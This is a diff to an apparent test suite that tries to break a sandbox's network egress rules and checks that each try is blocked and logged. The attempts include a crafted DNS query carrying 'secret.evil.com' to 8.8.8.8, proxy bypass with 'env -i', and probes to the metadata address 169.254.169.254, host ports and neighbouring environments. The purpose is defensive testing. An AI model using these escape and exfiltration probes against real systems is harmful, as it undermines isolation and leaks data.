@@ -1,13 +1,14 @@
 // Attacks on the egress rules from inside a real environment. Each one must fail, and
 // be recorded where there is something to record it: a proxy event for what reaches the
-// proxy, the namespace's nftables counter for what the firewall rejects. The suite
-// prints how many it tried and how many were blocked.
+// proxy; for what the firewall rejects, the namespace's nftables counter and a 'firewall'
+// event naming the destination, port and rule. The suite prints how many it tried and
+// how many were blocked.
 //
 // The "outside" servers listen on 127.0.0.2, the one address the test escape hatch opens;
 // the host's own services (PostgreSQL on 127.0.0.1:5432) stay behind the address check.
 import assert from 'node:assert/strict';
 import { mkdtempSync, rmSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import pino from 'pino';
@@ -93,7 +94,10 @@ describe('egress attacks from inside an environment', () => {
   const blockedCount = async () => (await runner.network!.blocked(spec.id))?.packets ?? 0;
   const since = (n: number) => events.events(spec.id).slice(n);
 
-  /** Runs one attack: `attempt` returns whether it failed; the firewall counter or a proxy event must show it. */
+  /**
+   * Runs one attack: `attempt` returns whether it failed; a proxy event must show it, or
+   * for the firewall the counter and, within a few seconds, an event that `check` accepts.
+   */
   async function attack(name: string, via: 'firewall' | 'proxy' | 'kernel', attempt: () => Promise<boolean>, check?: (e: NetworkEvent[]) => boolean) {
     const counter = await blockedCount();
     const n = events.events(spec.id).length;
@@ -102,7 +106,12 @@ describe('egress attacks from inside an environment', () => {
     if (via === 'firewall') {
       const delta = (await blockedCount()) - counter;
       assert.ok(delta > 0, `${name}: the firewall counter did not move`);
-      recorded = `firewall counter +${delta}`;
+      assert.ok(check, `${name}: a firewall attack says which event records it`);
+      const firewall = () => since(n).filter((e) => e.kind === 'firewall');
+      await until(() => check(firewall()), 5_000).catch(() => assert.fail(`${name}: no matching firewall event in ${JSON.stringify(firewall())}`));
+      const matching = firewall().filter((e) => check([e]));
+      assert.ok(matching.every((e) => !e.allowed && e.packets! >= 1), JSON.stringify(matching));
+      recorded = `firewall counter +${delta}, event ${[...new Set(matching.map((e) => `${e.method} ${e.host}:${e.port} ${e.rule}`))].join(', ')}`;
     } else if (via === 'proxy') {
       await until(() => since(n).some((e) => !e.allowed));
       const denied = since(n).filter((e) => !e.allowed);
@@ -122,31 +131,34 @@ describe('egress attacks from inside an environment', () => {
     py(`import socket,sys\ns=socket.socket(socket.${family});s.settimeout(5)\ntry:\n  s.connect((${JSON.stringify(host)},${port}));print('connected')\nexcept Exception as e:\n  print('failed',e)`).then((r) => !r.stdout.includes('connected'));
 
   test('direct connections, with the proxy variables unset', async () => {
-    await attack('direct TCP to an outside address (1.1.1.1:443)', 'firewall', () => tcp('1.1.1.1', 443));
-    await attack('curl with the proxy variables unset (env -i)', 'firewall', async () => (await sh(`env -i PATH=/usr/bin:/bin curl -sS -m 5 http://93.184.216.34/`)).exitCode !== 0);
-    await attack('curl --noproxy to the outside server through the host end', 'firewall', () => curlFails(`--noproxy '*' http://${proxy.host}:${outside.httpPort}/`));
-    await attack('direct TCP to the host end of the veth, PostgreSQL port', 'firewall', () => tcp(proxy.host, 5432));
-    await attack('direct TCP to the host end of the veth, SSH port', 'firewall', () => tcp(proxy.host, 22));
-    const hostIp = (await import('node:os')).networkInterfaces().eth0?.find((a) => a.family === 'IPv4')?.address ?? '192.0.2.2';
-    await attack(`direct TCP to the host's own address (${hostIp}:5432)`, 'firewall', () => tcp(hostIp, 5432));
-    await attack('direct TCP to the metadata address 169.254.169.254:80', 'firewall', () => tcp('169.254.169.254', 80));
+    await attack('direct TCP to an outside address (1.1.1.1:443)', 'firewall', () => tcp('1.1.1.1', 443), refused('TCP', '1.1.1.1', 443, 'direct-connection'));
+    await attack('curl with the proxy variables unset (env -i)', 'firewall', async () => (await sh(`env -i PATH=/usr/bin:/bin curl -sS -m 5 http://93.184.216.34/`)).exitCode !== 0, refused('TCP', '93.184.216.34', 80, 'direct-connection'));
+    await attack('curl --noproxy to the outside server through the host end', 'firewall', () => curlFails(`--noproxy '*' http://${proxy.host}:${outside.httpPort}/`), refused('TCP', proxy.host, outside.httpPort, 'host'));
+    await attack('direct TCP to the host end of the veth, PostgreSQL port', 'firewall', () => tcp(proxy.host, 5432), refused('TCP', proxy.host, 5432, 'host'));
+    await attack('direct TCP to the host end of the veth, SSH port', 'firewall', () => tcp(proxy.host, 22), refused('TCP', proxy.host, 22, 'host'));
+    const interfaces = Object.values(networkInterfaces()).flat();
+    const hostIp = networkInterfaces().eth0?.find((a) => a.family === 'IPv4')?.address ?? '192.0.2.2';
+    const hostHasIt = interfaces.some((a) => a?.address === hostIp);
+    await attack(`direct TCP to the host's own address (${hostIp}:5432)`, 'firewall', () => tcp(hostIp, 5432), refused('TCP', hostIp, 5432, hostHasIt ? 'host' : 'direct-connection'));
+    await attack('direct TCP to the metadata address 169.254.169.254:80', 'firewall', () => tcp('169.254.169.254', 80), refused('TCP', '169.254.169.254', 80, 'metadata'));
     await attack("127.0.0.1:5432 inside is the environment's own loopback, not the host's", 'kernel', () => tcp('127.0.0.1', 5432));
   });
 
   test('other environments are out of reach', async () => {
     const theirs = runner.network!.proxyAddress(neighbour.id)!;
-    await attack("direct TCP to another environment's proxy", 'firewall', () => tcp(theirs.host, theirs.port));
+    await attack("direct TCP to another environment's proxy", 'firewall', () => tcp(theirs.host, theirs.port), refused('TCP', theirs.host, theirs.port, 'other-environment'));
     const theirEnd = theirs.host.replace(/\d+$/, (d) => String(Number(d) + 1));
-    await attack("direct TCP to another environment's address", 'firewall', () => tcp(theirEnd, 8080));
+    await attack("direct TCP to another environment's address", 'firewall', () => tcp(theirEnd, 8080), refused('TCP', theirEnd, 8080, 'other-environment'));
   });
 
   test('UDP, DNS and IPv6', async () => {
-    await attack('DNS lookup through the system resolver', 'firewall', async () => (await sh('getent hosts example.com')).exitCode !== 0);
+    // Wherever resolv.conf points, the query is a refused packet to port 53.
+    await attack('DNS lookup through the system resolver', 'firewall', async () => (await sh('getent hosts example.com')).exitCode !== 0, (e) => e.some((x) => x.port === 53 && x.rule === 'deny:firewall:dns'));
     await attack('UDP datagram to 8.8.8.8:53 (DNS exfiltration)', 'firewall', async () => {
       const r = await py(`import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(2)\ntry:\n  s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x04evil\\x03com\\x00\\x00\\x01\\x00\\x01',('8.8.8.8',53));print(s.recvfrom(512))\nexcept Exception as e:\n  print('failed',e)`);
       return !r.stdout.startsWith('(');
-    });
-    await attack('TCP DNS to 8.8.8.8:53', 'firewall', () => tcp('8.8.8.8', 53));
+    }, refused('UDP', '8.8.8.8', 53, 'dns'));
+    await attack('TCP DNS to 8.8.8.8:53', 'firewall', () => tcp('8.8.8.8', 53), refused('TCP', '8.8.8.8', 53, 'dns'));
     await attack('DNS exfiltration through the proxy: a name outside the policy is never resolved', 'proxy', async () => {
       const before = resolved.length;
       policies.policy = { ...policies.policy, allowDomains: policies.policy.allowDomains.filter((d) => d !== '*.test') };
@@ -157,10 +169,19 @@ describe('egress attacks from inside an environment', () => {
         policies.policy = { ...policies.policy, allowDomains: ['*.test', ...policies.policy.allowDomains] };
       }
     });
-    await attack('IPv6 TCP to 2606:4700:4700::1111', 'kernel', () => tcp('2606:4700:4700::1111', 443, 'AF_INET6'));
+    await attack('IPv6 TCP to 2606:4700:4700::1111', 'firewall', () => tcp('2606:4700:4700::1111', 443, 'AF_INET6'), refused('TCP', '2606:4700:4700::1111', 443, 'ipv6'));
     await attack('IPv6 literal through the proxy (http://[2606:4700:4700::1111]/)', 'proxy', () => curlFails('http://[2606:4700:4700::1111]/'), (e) => e.some((x) => x.rule === 'deny:ip-address'));
     await attack('a name resolving to ::1 through the proxy', 'proxy', () => curlFails(`http://six.test:${outside.httpPort}/`), (e) => e.some((x) => x.rule === 'deny:private-address:::1'));
     await attack('a name resolving to ::ffff:127.0.0.1 through the proxy', 'proxy', () => curlFails(`http://mapped.test:5432/`), (e) => e.some((x) => x.rule === 'deny:private-address:127.0.0.1'));
+  });
+
+  test('a refusal loop is recorded per destination with every packet counted', async () => {
+    const n = events.events(spec.id).length;
+    await py(`import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor i in range(300):\n  try: s.sendto(b'x',('8.8.4.4',53))\n  except OSError: pass\nfor i in range(20):\n  try: s.sendto(b'x',('8.8.4.4',5353))\n  except OSError: pass`);
+    const packets = (port: number) => since(n).filter((e) => e.kind === 'firewall' && e.host === '8.8.4.4' && e.port === port).reduce((sum, e) => sum + e.packets!, 0);
+    await until(() => packets(53) === 300 && packets(5353) === 20, 5_000).catch(() => assert.fail(`counted ${packets(53)} and ${packets(5353)} packets: ${JSON.stringify(since(n))}`));
+    // A loop is a few events (one per destination per read), not one per packet.
+    assert.ok(since(n).length <= 20, `${since(n).length} events`);
   });
 
   test('through the proxy: raw addresses, metadata, rebinding, Host tricks', async () => {
@@ -248,6 +269,11 @@ print(len(ss),err)`);
     assert.equal(after.stdout, `hello GET /after host=outside.test:${outside.httpPort}\n`, after.stderr);
   });
 });
+
+/** A firewall event for exactly this destination, protocol and rule. */
+function refused(method: string, host: string, port: number, rule: string) {
+  return (e: NetworkEvent[]) => e.some((x) => x.kind === 'firewall' && x.method === method && x.host === host && x.port === port && x.rule === `deny:firewall:${rule}`);
+}
 
 async function run(command: RunningCommand) {
   let stdout = '';
